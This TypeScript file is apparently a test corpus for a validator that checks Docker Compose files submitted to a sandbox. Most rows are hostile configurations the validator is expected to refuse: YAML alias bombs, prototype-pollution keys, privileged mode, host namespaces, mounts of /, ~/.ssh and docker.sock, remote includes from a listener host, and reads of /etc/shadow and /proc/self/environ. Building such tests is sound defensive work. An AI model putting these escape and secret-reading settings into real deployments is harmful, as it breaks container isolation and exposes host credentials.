import type { Breach, CorpusId, CorpusRow, Expected } from './corpus-row.js';

const shown = 60;

const row = (id: CorpusId, configuration: string, expected: Expected, what = configuration): CorpusRow => ({
  id,
  what: JSON.stringify(what.length > shown ? `${what.slice(0, shown)}…` : what),
  type: 'compose',
  configuration,
  expected,
});
const refused = (...breaks: readonly Breach[]): Expected => ({ outcome: 'refused', breaks });
const accepted: Expected = { outcome: 'accepted' };

/** The line of a service's second key. */
const keyLine = 4;
const keyed = (key: string): string => `services:\n  web:\n    image: nginx:alpine\n    ${key}\n`;

/** A key of a service. The rule is, by default, the one of that key. */
function inWeb(id: CorpusId, key: string, rule?: string, place?: string): CorpusRow {
  const name = key.slice(0, key.indexOf(':'));
  const breach: Breach = [rule ?? `compose.service.${name}`, `services.web.${place ?? name}`, keyLine];
  return row(id, keyed(key), refused(breach), key);
}
const mounted = (id: CorpusId, mount: string, rule: string, place = ''): CorpusRow =>
  inWeb(id, `volumes: [${mount}]`, rule, `volumes[0]${place}`);

/** Something beside a service, in the third line. */
function beside(id: CorpusId, text: string, ...breaks: readonly Breach[]): CorpusRow {
  return row(id, `services:\n  web: { image: "nginx:alpine" }\n${text}\n`, refused(...breaks), text);
}

const bomb = Array.from({ length: 10 }, (_, i) => `x-a${i + 1}: &a${i + 1} [*a${i},*a${i},*a${i},*a${i}]`);
const services = (count: number): string =>
  Array.from({ length: count }, (_, i) => `  s${i}: { image: nginx:alpine, pids_limit: 8 }\n`).join('');
const entries = Array.from({ length: 70 }, (_, i) => `K${i}: x`).join(', ');

/** What YAML itself can do. */
const form: readonly CorpusRow[] = [
  beside('B30', `x-a0: &a0 [x]\n${bomb.join('\n')}`, ['yaml.nodes', '', 1]),
  row('B30', '['.repeat(10_000), refused(['yaml.depth', '', 1])),
  row('B30', `x: ${'x'.repeat(300 * 1024)}`, refused(['yaml.size', '', null])),
  beside('B30', 'x-a: &a [*a]', ['yaml.depth', '', 1]),
  beside('B31', 'x-a: !!js/function "x"', ['yaml.syntax', '', 3]),
  beside('B31', 'x-a: !!binary aGVsbG8=', ['yaml.syntax', '', 3]),
  beside('B31', 'name: a\nname: b', ['yaml.repeated-key', '', 4]),
  beside('B31', '__proto__: { privileged: true }', ['yaml.reserved-name', '__proto__', 3]),
  beside('B31', '---\nservices: {}', ['compose.file', '', 1]),
  inWeb('B32', 'healthcheck: { disable: no }', 'compose.healthcheck.disable', 'healthcheck.disable'),
  row('B32', keyed('pids_limit: 0o24'), accepted),
  row('B32', keyed('ports: [1:30]'), accepted),
  row('B32', `\uFEFF${keyed('init: true')}`, accepted),
  beside('B32', 'name:\n\t- a', ['yaml.syntax', '', 4]),
];

/** What would take the sandbox away, or share something with the host or another session. */
const escapes: readonly CorpusRow[] = [
  inWeb('B33', 'privileged: true'),
  inWeb('B34', 'cap_add: [SYS_ADMIN]'),
  inWeb('B34', 'security_opt: ["seccomp:unconfined"]'),
  inWeb('B35', 'network_mode: host'),
  inWeb('B35', 'network_mode: "container:nalabo-session-SESSION"'),
  inWeb('B35', 'network_mode: "service:x"'),
  inWeb('B36', 'pid: host'),
  inWeb('B36', 'ipc: host'),
  inWeb('B36', 'uts: host'),
  inWeb('B36', 'userns_mode: host'),
  mounted('B37', '"/:/host"', 'compose.mount.host-path'),
  mounted('B37', '"~/.ssh:/x"', 'compose.mount.host-path'),
  mounted('B37', '"/var/run/docker.sock:/s"', 'compose.mount.host-path'),
  mounted('B37', '"../other:/x"', 'compose.mount.parent-path'),
  mounted('B37', '{ type: bind, source: /, target: /host }', 'compose.mount.host-path', '.source'),
  // A folder of the workspace, and none of the host.
  row('B37', keyed('volumes: ["./a:/b"]'), accepted),
  beside('B38', 'volumes: { a: { driver_opts: { type: none, o: bind, device: / } } }', [
    'compose.volume.driver_opts',
    'volumes.a.driver_opts',
    3,
  ]),
  beside(
    'B38',
    'volumes: { a: { driver: local, driver_opts: { type: nfs, o: addr=10.0.0.1, device: ":/" } } }',
    ['compose.volume.driver', 'volumes.a.driver', 3],
    ['compose.volume.driver_opts', 'volumes.a.driver_opts', 3],
  ),
  beside('B39', 'volumes: { a: { external: true } }', ['compose.volume.external', 'volumes.a.external', 3]),
  beside('B39', 'volumes: { a: { name: nalabo-session-SESSION-workspace } }', [
    'compose.volume.name',
    'volumes.a.name',
    3,
  ]),
  beside('B39', 'networks: { a: { external: true } }', ['compose.network.external', 'networks.a.external', 3]),
  beside('B39', 'networks: { a: { name: nalabo-session-SESSION } }', ['compose.network.name', 'networks.a.name', 3]),
  inWeb('B40', 'devices: ["/dev/kmsg:/dev/kmsg"]'),
  inWeb('B40', 'gpus: all'),
  inWeb('B40', 'device_cgroup_rules: ["a *:* rwm"]'),
  inWeb('B40', 'runtime: x'),
];

/** What would read or fetch something, or start something else. */
const readers: readonly CorpusRow[] = [
  inWeb('B41', 'extends: { file: /etc/passwd, service: a }'),
  beside('B41', 'include: [/etc/passwd]', ['compose.file.include', 'include', 3]),
  beside('B41', 'include: ["http://LISTENER/a.yaml"]', ['compose.file.include', 'include', 3]),
  beside('B41', 'include: ["git://LISTENER/a.git"]', ['compose.file.include', 'include', 3]),
  beside('B41', 'include: ["oci://LISTENER/a:1"]', ['compose.file.include', 'include', 3]),
  inWeb('B42', 'env_file: /proc/self/environ'),
  beside('B42', 'secrets: { a: { file: /etc/shadow } }', ['compose.file.secrets', 'secrets', 3]),
  beside('B42', 'secrets: { a: { environment: DATABASE_URL } }', ['compose.file.secrets', 'secrets', 3]),
  beside('B42', 'configs: { a: { file: /etc/shadow } }', ['compose.file.configs', 'configs', 3]),
  row('B43', 'services:\n  web:\n    image: ${DATABASE_URL}\n', refused(['compose.variable', 'services.web.image', 3])),
  inWeb('B43', 'command: echo ${NATS_URL}', 'compose.variable'),
  inWeb('B44', 'build: .'),
  inWeb('B44', 'build: http://LISTENER/a.git'),
  inWeb('B44', 'build: { dockerfile_inline: "FROM scratch" }'),
  inWeb('B45', 'provider: { type: sh }'),
  inWeb('B45', 'use_api_socket: true'),
  inWeb('B45', 'post_start: [{ command: id, privileged: true }]'),
];

/** What would raise a limit, take a name or tune the host. */
const limits: readonly CorpusRow[] = [
  inWeb('B46', 'logging: { driver: syslog, options: { syslog-address: "tcp://LISTENER" } }'),
  inWeb('B46', 'sysctls: [net.ipv4.ip_forward=1]'),
  inWeb('B46', 'cgroup_parent: /'),
  inWeb('B46', 'oom_kill_disable: true'),
  row('B46', keyed('mem_limit: 64g'), refused(['compose.sum-of-limits', 'services', 1])),
  inWeb('B46', 'deploy: { replicas: 1000 }', 'compose.deploy.replicas', 'deploy.replicas'),
  inWeb('B47', 'labels: { io.nalabo.session: SESSION }', 'compose.reserved-label', 'labels.io.nalabo.session'),
  inWeb('B47', 'labels: ["IO.NALABO.instance=x"]', 'compose.reserved-label', 'labels[0]'),
  inWeb('B47', 'labels: { nalabo.io/session: SESSION }', 'yaml.reserved-name', 'labels.nalabo.io/session'),
  row(
    'B48',
    'services:\n  web:\n    image: nalabo/workbench:dev\n',
    refused(['compose.image-allowed', 'services.web.image', 3]),
  ),
  row(
    'B48',
    `services:\n  web:\n    image: "nginx:alpine@sha256:${'0'.repeat(64)}"\n`,
    refused(['compose.image-allowed', 'services.web.image', 3]),
  ),
  inWeb('B49', 'container_name: nalabo-session-SESSION'),
  ...['..', '👍', 'a'.repeat(300)].map((name) =>
    row(
      'B49',
      `services: { ${name}: { image: "nginx:alpine" } }`,
      refused(['compose.file.services', `services.${name}`, 1]),
    ),
  ),
  row('B50', `services:\n${services(11)}`, refused(['compose.file.services', 'services', 1])),
  inWeb('B50', `environment: { ${entries} }`),
  inWeb('B50', 'extra_hosts: ["metadata:host-gateway"]'),
  row('B50', keyed('ports: ["22:22"]'), accepted),
];

export const composeRows: readonly CorpusRow[] = [...form, ...escapes, ...readers, ...limits];
